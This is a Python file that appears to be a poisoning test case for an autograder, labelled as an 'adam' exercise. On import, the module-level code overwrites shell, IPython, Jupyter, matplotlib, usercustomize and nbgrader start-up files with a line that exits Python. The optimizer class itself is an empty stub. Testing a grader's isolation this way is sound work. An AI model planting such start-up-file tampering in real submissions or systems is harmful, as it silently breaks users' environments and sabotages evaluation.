# expect: wrong error
# family: poison
# exercise: adam
# Writes start-up files of Python, IPython, Jupyter and matplotlib.
import os
from pathlib import Path

TEXT = "raise SystemExit('planted-poison')\n"
if True:
    for home in ("@HOME@", os.path.expanduser("~"), "."):
        for name in (".ipython/profile_default/startup/00.py", ".config/matplotlib/matplotlibrc", ".pythonstartup",
                     ".jupyter/jupyter_config.py", ".local/lib/python3.11/site-packages/usercustomize.py",
                     ".bashrc", ".profile", ".nbgrader/nbgrader_config.py"):
            try:
                path = Path(home, name)
                path.parent.mkdir(parents=True, exist_ok=True)
                path.write_text(TEXT)
            except OSError:
                continue


class Adam:
    def __init__(self, lr=0.001, beta1=0.9, beta2=0.999, eps=1e-8):
        self.lr, self.beta1, self.beta2, self.eps = lr, beta1, beta2, eps

    def update(self, params, grads):
        pass
